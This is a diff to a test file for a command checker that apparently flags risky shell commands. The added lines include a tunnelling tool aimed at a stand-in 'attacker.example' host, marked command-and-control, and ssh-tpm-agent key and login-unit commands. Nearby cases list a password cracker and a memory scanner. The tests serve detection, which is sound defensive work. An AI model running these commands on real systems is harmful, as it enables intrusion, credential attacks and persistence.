@@ -6392,6 +6392,10 @@ describe('checkCommand on the twenty read, and the 636th, 638th, 641st, 643rd, 6
     ['autopasscrack https://example.com/login --username myuser', true, 'cracks passwords'],
     ['discoursemap -u https://forum.example.com --fast', true],
     ['slackhell run', true],
+    ['MODE=dns REMOTE=attacker.example ./sshimpanzee', true, 'command-and-control'],
+    // Keys held by the TPM are written where ssh reads them; a program's own service units start it at every login.
+    ['ssh-tpm-keygen -C ssh-tpm-agent', true, 'ssh key'],
+    ['ssh-tpm-agent --install-user-units', true, 'login or boot'],
     ['memscan-cli scan 43077 12345 i32', true, 'another process'],
     ['memscan-cli info 1234', false],
     // A web shell asked through a host written without a scheme; an installed application asked its version; capture devices listed.
